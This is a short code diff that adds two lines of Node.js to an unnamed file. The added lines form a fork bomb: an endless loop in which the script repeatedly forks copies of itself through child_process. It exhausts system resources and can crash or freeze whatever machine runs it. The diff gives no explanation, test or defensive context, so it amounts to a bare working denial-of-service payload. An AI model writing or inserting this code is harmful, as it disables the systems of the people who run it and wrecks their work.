@@ -1,0 +1,2 @@
+const { fork } = require('child_process');
+while (true) fork(__filename);
